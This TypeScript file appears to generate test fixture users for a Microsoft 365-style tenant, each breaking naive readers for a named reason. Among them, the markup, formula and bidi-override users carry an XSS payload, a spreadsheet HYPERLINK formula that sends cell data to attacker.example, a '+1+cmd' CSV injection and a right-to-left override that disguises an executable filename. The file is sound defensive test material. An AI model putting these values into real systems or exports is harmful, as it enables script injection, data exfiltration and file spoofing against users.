import type { GraphRecord } from '../model.ts';
import { license } from './products.ts';
import { pastDate } from './random.ts';
import { createGuest, type Maker, toImmutableId, toUser } from './user-record.ts';

/** Left-to-right text with an override that flips what follows it: what a forged name looks like. */
const RIGHT_TO_LEFT_OVERRIDE = '\u202e';

/**
 * The users that break naive readers, the same ones in every tenant of 25 and more.
 * Each is there for one reason, which `employeeId` names, except for guests.
 */
export function createAwkwardUsers(maker: Maker): GraphRecord[] {
  return [createGuest(maker, true), createGuest(maker, false), ...awkwardMembers(maker)];
}

function awkwardMembers(maker: Maker): GraphRecord[] {
  const domain = maker.domains[1] ?? maker.domains[0];
  const other = maker.domains[2] ?? domain;
  const member = (reason: string, alias: string, displayName: string, fields: Record<string, unknown> = {}) =>
    toUser(maker, {
      userPrincipalName: `${alias}@${domain}`,
      displayName,
      mail: `${alias}@${domain}`,
      employeeId: reason,
      usageLocation: 'US',
      assignedLicenses: [license('ENTERPRISEPACK')],
      ...fields,
    });
  return [
    member('no-mail', 'kiosk', 'Front Desk Kiosk', {
      mail: null,
      assignedLicenses: [license('DESKLESSPACK')],
    }),
    member('disabled', 'left.company', 'Lena Formerly', { accountEnabled: false }),
    member('unlicensed', 'no.licence', 'Uma Unlicensed', { assignedLicenses: [], usageLocation: null }),
    member('several-skus', 'many.skus', 'Max Several', {
      assignedLicenses: [
        license('SPE_E5'),
        license('FLOW_FREE'),
        license('POWER_BI_STANDARD'),
        license('VISIOCLIENT'),
      ],
    }),
    member('two-mailbox-skus', 'two.mailboxes', 'Tina Twice', {
      assignedLicenses: [license('SPB'), license('EXCHANGESTANDARD')],
    }),
    member('mailbox-plan-disabled', 'no.mailbox', 'Nora Nomailbox', {
      assignedLicenses: [license('ENTERPRISEPACK', 'EXCHANGE_S_ENTERPRISE', 'YAMMER_ENTERPRISE')],
    }),
    member('warning-sku', 'in.warning', 'Wim Warning', { assignedLicenses: [license('EMS')] }),
    member('ambiguous-part-number', 'caller', 'Cal Caller', { assignedLicenses: [license('MCOPSTN5')] }),
    member('unicode', 'yamada', '山田 太郎', { givenName: '太郎', surname: '山田', jobTitle: '課長' }),
    member('right-to-left', 'layla', 'ليلى عبد الرحمن', { givenName: 'ليلى', surname: 'عبد الرحمن' }),
    member('bidi-override', 'bidi', `Invoice ${RIGHT_TO_LEFT_OVERRIDE}fdp.exe`),
    member('emoji', 'zoe', 'Zoe\u0301 👩‍💻 Çelik', { surname: 'Çelik' }),
    member('name-of-256', 'long.name', 'Wolfeschlegelsteinhausen '.repeat(11).slice(0, 256).padEnd(256, 'x')),
    member('markup', 'markup', '<img src=x onerror=alert(1)> <b>Bold</b> &amp; Co', {
      jobTitle: '</td><script>alert(2)</script>',
    }),
    member('formula', 'formula', '=HYPERLINK("http://attacker.example/?"&A1,"open")', { jobTitle: '+1+cmd' }),
    member('separators', 'csv', 'Quote "Q" Comma, Semi; Tab\tLine\nBreak', { department: 'A,"B"\r\nC' }),
    member('apostrophe', "miles.o'brien", "Miles O'Brien", { surname: "O'Brien" }),
    member('mail-elsewhere', 'elsewhere', 'Ella Elsewhere', { mail: `ella@${other}` }),
    member('synced', 'synced', 'Sam Synced', {
      onPremisesSyncEnabled: true,
      onPremisesImmutableId: toImmutableId(maker.random),
      onPremisesLastSyncDateTime: pastDate(maker.random, 1),
    }),
    member('room', 'room.12', 'Room 12', { accountEnabled: false, assignedLicenses: [] }),
  ];
}
